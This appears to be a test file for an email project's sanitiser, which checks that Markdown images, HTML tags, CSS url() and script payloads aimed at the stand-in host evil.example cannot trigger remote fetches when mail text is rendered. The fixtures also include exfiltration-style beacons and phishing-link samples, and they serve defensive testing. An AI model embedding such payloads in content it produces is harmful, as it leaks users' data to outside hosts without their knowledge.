from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from selectolax.lexbor import LexborHTMLParser

from postroom.mail.text.display import is_inert, sanitised, without_fetches

URL = "https://evil.example/p.png?leak=1"
FETCHES = [
    f"![alt]({URL})",
    f"![]({URL})",
    f"![alt][ref]\n\n[ref]: {URL}",
    f"![ref][]\n\n[ref]: {URL}",
    f"![ref]\n\n[ref]: {URL}",
    f"[![alt]({URL})](https://evil.example)",
    f"Wow!![alt]({URL})",
    f"\\\\![alt]({URL})",
    f"> ![alt](<{URL}>)",
    f"- item\n  ![alt]({URL} 'title')",
    f"<img src='{URL}'>",
    f"<IMG\nSRC={URL}>",
    f"<img/src={URL}>",
    f"<div>\n\n<img src={URL}>\n</div>",
    f"<div>\n<img alt='<' src={URL}>\n</div>",
    f"<picture><source srcset={URL}></picture>",
    f"<p style='background:url({URL})'>",
    f"<x:y style='background:url({URL})'>",
    f"<style>@import url({URL})</style>",
    f"<script>fetch('{URL}')</script>",
    f"<svg><image href={URL} /></svg>",
    f"<link rel=stylesheet href={URL}>",
    f"<video poster={URL}>",
    f"<iframe src={URL}></iframe>",
    f"<object data={URL}></object>",
    f"<body background={URL}>",
    f"<meta http-equiv=refresh content='0;url={URL}'>",
    f"<p>\n<img < src={URL}>\n</p>",
    f'<p>\n<iframe <a src="{URL}">\n</p>',
    f"<p>\n<link < rel=stylesheet href={URL}>\n</p>",
    f"<body < background={URL}>",
    f"<div>\n<img <b src={URL}>\n</div>",
    f'<div>\n<img "<" src={URL}>\n</div>',
    f"<svg><image < href={URL}></svg>",
    f"<div>\n<x<y style='background:url({URL})'>\n</div>",
    f"<div>\n<x<1 style='background:url({URL})'>\n</div>",
    f"<div>\n<img/<src={URL} src={URL}>\n</div>",
    f"<div>\n<IMG\t<\n=<\nSRC\n=\n{URL}>\n</div>",
    f"<div>\n<img \0<\0 src={URL}>\n</div>",
]
LATENT = [
    f"\\![alt]({URL})",
    f"!\u200b[alt]({URL})",
    f"!\U000e0041[alt]({URL})",
    f"<\u200bimg src={URL}>",
    f"![[{URL}]]",
]
"""Text that loads resources only after a removal, or in other Markdown dialects."""

LOADING = (
    "src", "srcset", "style", "poster", "data", "background", "content", "href", "xlink:href",
)  # fmt: skip


def loads(html: str) -> list[str]:
    """The elements for which a browser makes a request without a click."""
    nodes = [node for node in LexborHTMLParser(html).css("*") if node.tag != "a"]
    found = [node.tag or "" for node in nodes if any(name in node.attributes for name in LOADING)]
    return found + [node.tag for node in nodes if node.tag in ("style", "script")]


def rendered(text: str) -> list[str]:
    """A text rendered by a permissive and a strict client, and as HTML."""
    kinds = (MarkdownIt("commonmark", {"html": True}), MarkdownIt("gfm-like", {"linkify": False}))
    return [kind.render(text) for kind in kinds] + [text]


@pytest.mark.parametrize("text", FETCHES)
def test_the_examples_would_load_something(text: str) -> None:
    assert any(map(loads, rendered(text)))


@pytest.mark.parametrize("text", FETCHES + LATENT)
def test_a_rendered_text_loads_nothing(text: str) -> None:
    safe = sanitised({"text": text})["text"]

    assert [] == [html for html in rendered(safe) if loads(html)]
    assert "![" not in safe
    assert "https://evil.example" in safe


@pytest.mark.parametrize("link", [f"<{URL}>", "<HTTPS://EVIL.example/>", "<ftp://evil.example/>"])
def test_an_autolink_is_disabled_and_its_address_stays(link: str) -> None:
    safe = without_fetches(f"see {link}")

    assert "<a" not in MarkdownIt("commonmark").render(safe)
    assert link[1:] in safe


@pytest.mark.parametrize(
    "text",
    [
        "On Friday Ana <ana@example.org> wrote:",
        "Return-Path: <bounce+ana=example.org@lists.example>",
        "Wow! [1] see https://example.org/a?b=c#d",
        "if a < b && c > d then x = List<String>",
        "<3 you!",
        "see [1] and https://example.org/login?code=123456",
        "<mark>word</mark>",
        "a <= b != c",
        "<b>bold</b> & <br>",
    ],
)
def test_other_words_are_not_altered(text: str) -> None:
    assert text == sanitised({"text": text, "subject": text})["subject"]
    assert text == without_fetches(text)


PIECES = (
    "<", ">", "/", "=", '"', "'", "`", "!", "[", "]", "(", ")", "\n", "\n\n", " ", "\t", "\f", "\r",
    "\0", "\u200b", "\xa0", "\\", "&lt;", "<img", "<IMG", "<div>\n", "</div>", "<svg><image",
    "<!--", "-->", "<?", "<![CDATA[", "]]>", "<x", "a", "1", "-", ":", " src=u", " SrC=u",
    "style='url(u)'", "href=u", "<style", "<script", "<https:u", "<textarea>", "</textarea>",
    "> ", "- ", "    ",
)  # fmt: skip


@settings(max_examples=max(settings().max_examples, 300))
@given(st.lists(st.sampled_from(PIECES), max_size=14).map("".join))
def test_no_combination_of_fragments_loads_anything(text: str) -> None:
    safe = sanitised({"text": text})["text"]

    assert [] == [html for html in rendered(safe) if loads(html)]
    assert text == safe or not is_inert(json.dumps(text, ensure_ascii=False).encode())


@given(st.text(alphabet="![]()<>/=:aimgsrcttps \n\u200b\\'\"", max_size=60))
def test_escaping_is_idempotent_and_only_adds_spaces(text: str) -> None:
    once = sanitised({"text": text})["text"]

    assert once == sanitised({"text": once})["text"]
    assert "".join(text.replace("\u200b", "").split()) == "".join(once.split())


@given(
    st.recursive(
        st.text(alphabet=st.one_of(st.characters(exclude_categories=["Cs"]),
                                   st.sampled_from("![<=>:a\u200b\u202e\x1b\x7f"))),
        lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.sampled_from("ab"), inner),
    )
)  # fmt: skip
def test_text_reported_as_inert_is_unchanged(value: Any) -> None:
    written = json.dumps({"a": value}, ensure_ascii=False).encode()

    if is_inert(written):
        assert {"a": value} == sanitised({"a": value})


def test_bytes_and_text_of_the_caller_stay() -> None:
    own = f"![x]({URL})\u200b"
    kept = {
        "draft": {"id": "drf_1", "body_text": own, "body_html": own},
        "memory": {"trust": "user", "text": own},
        "rule": {"yaml": own},
        "file": {"content": own},
    }

    assert kept == sanitised(kept)


def test_a_memory_with_text_of_a_mail_is_escaped_like_the_mail() -> None:
    memory = {"trust": "mail", "text": f"![x]({URL})"}

    assert f"! [x] ({URL})" == sanitised(memory)["text"]


@pytest.mark.parametrize("trust", ["user", "agent"])
@pytest.mark.parametrize("name", ["similar", "history"])
@pytest.mark.parametrize("around", [lambda it: it, lambda it: {"results": [it]}])
def test_each_memory_is_escaped_by_its_own_trust(
    trust: str, name: str, around: Callable[[Any], Any]
) -> None:
    own = f"![x]({URL})\u200b"
    beside = [{"trust": t, "summary": own, "tags": [own]} for t in ("mail", "user", "agent")]
    memory = {"trust": trust, "text": own, "links": [{"to": own}], name: beside}

    theirs = {"trust": "mail", "summary": f"! [x] ({URL})", "tags": [f"! [x] ({URL})"]}
    assert around({**memory, name: [theirs, *beside[1:]]}) == sanitised(around(memory))


def test_html_fields_stay_html() -> None:
    html = '<p style="color:red">Hi! [x]</p>\u200b'

    assert {"html": html[:-1]} == sanitised({"html": html})


@pytest.mark.parametrize("field", ["html", "body_html"])
@pytest.mark.parametrize(
    "html",
    [f"<p>![m]({URL})</p>", f'<p title="![m]({URL})">x</p>', f"!\u200b[m]({URL})", f"![m]({URL})"],
)
def test_html_has_no_image_of_markdown_and_shows_the_same(field: str, html: str) -> None:
    safe = sanitised({field: html})[field]

    assert [] == [drawn for drawn in rendered(safe) if loads(drawn)]
    before, after = LexborHTMLParser(html.replace("\u200b", "")), LexborHTMLParser(safe)
    assert before.text() == after.text()
    assert [n.attributes for n in before.css("*")] == [n.attributes for n in after.css("*")]


LINKS = [
    f"[your bank]({URL})",
    f"[your bank](<{URL}>)",
    f"[your bank]( {URL} 'title')",
    "[your bank](&#104;ttps://evil.example)",
    "[your bank](//evil.example)",
    f"[your bank][1]\n\n[1]: {URL}",
    f"[your bank][]\n\n[your bank]: <{URL}>",
    f"[your bank]\n\n> [your bank]: {URL}",
    f"[your bank]\n\n[your bank]:\n{URL}",
]


@pytest.mark.parametrize("text", LINKS)
def test_a_link_of_markdown_shows_where_it_goes(text: str) -> None:
    client = MarkdownIt("commonmark")

    assert "<a " in client.render(text)
    assert "<a " not in client.render(without_fetches(text))
    assert "".join(text.split()) == "".join(without_fetches(text).split())


@pytest.mark.parametrize("text", ["a[0](x)", "see [1]: it is so", "[x] (y)", "f[i](j, k)"])
def test_brackets_that_are_no_link_stay(text: str) -> None:
    assert text == without_fetches(text)
